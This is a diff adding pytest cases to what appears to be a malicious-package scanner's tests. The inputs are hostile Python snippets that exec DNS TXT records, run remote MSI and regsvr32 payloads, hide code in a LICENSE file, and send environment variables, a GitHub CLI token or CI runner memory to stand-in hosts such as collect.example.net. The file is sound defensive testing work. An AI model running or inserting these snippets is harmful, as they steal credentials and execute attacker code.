@@ -321,3 +321,84 @@ def test_a_wallet_extensions_store_read_beside_a_request_is_a_credential_read() 
     rules, held = _imported(code)
     assert "credential-read" in rules
     assert held
+
+
+@pytest.mark.parametrize(
+    ("code", "rule"),
+    [
+        (
+            "import dns.resolver\n"
+            "answer = dns.resolver.resolve('p.example.net', 'TXT')\n"
+            "exec(''.join(r.to_text() for r in answer))\n",
+            "download-exec",
+        ),
+        (
+            "import httpimport\n"
+            "with httpimport.remote_repo('https://cdn.example.net/pkgs/'):\n"
+            "    import helper\n",
+            "download-exec",
+        ),
+        (
+            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'LICENSE')).read()[900:])\n",
+            "decode-exec",
+        ),
+        (
+            "import os\nos.system('msiexec /i https://cdn.example.net/u.msi /quiet')\n",
+            "download-run",
+        ),
+        (
+            "import subprocess\nsubprocess.call('regsvr32 /s /n /u /i:https://cdn.example.net/a.sct "
+            "scrobj.dll', shell=True)\n",
+            "download-run",
+        ),
+        (
+            "import ftplib, io, os\n"
+            "f = ftplib.FTP('ftp.example.net')\n"
+            "f.login('u', 'p')\n"
+            "f.storbinary('STOR e.txt', io.BytesIO(str(dict(os.environ)).encode()))\n",
+            "credential-exfil",
+        ),
+        (
+            "import os, requests\n"
+            "token = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\n"
+            "requests.post('https://collect.example.net/g', data=token)\n",
+            "credential-exfil",
+        ),
+    ],
+    ids=["dns txt", "httpimport", "license", "msiexec", "regsvr32", "ftp", "gh token"],
+)
+def test_more_ways_to_fetch_run_or_send_are_held_from_any_function(code: str, rule: str) -> None:
+    client = "def connect():\n" + "".join(f"    {line}\n" for line in code.splitlines())
+    rules, held = judge_in_function(client)
+    assert rule in rules
+    assert held
+
+
+def test_a_license_read_for_the_metadata_passes() -> None:
+    setup = (
+        "from setuptools import setup\n"
+        "setup(name='demo', version='1.0', license=open('LICENSE').read())\n"
+    )
+    archive = sdist(
+        {
+            "setup.py": setup,
+            "PKG-INFO": pkg_info("demo"),
+            "LICENSE": "MIT License\n",
+            "demo/__init__.py": "def version():\n    return '1.0'\n",
+        }
+    )
+    rules, held = judge(archive, "demo-1.0.tar.gz")
+    assert "decode-exec" not in rules
+    assert not held
+
+
+def test_the_ci_runners_worker_named_beside_a_request_is_a_credential_read() -> None:
+    code = (
+        "import os, requests\n"
+        "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
+        "    if 'Runner.Worker' in open(f'/proc/{pid}/cmdline').read():\n"
+        "        requests.post('https://collect.example.net/m', data=open(f'/proc/{pid}/maps').read())\n"
+    )
+    rules, _ = _imported(code)
+    assert "credential-read" in rules
+    assert "credential-exfil" in rules
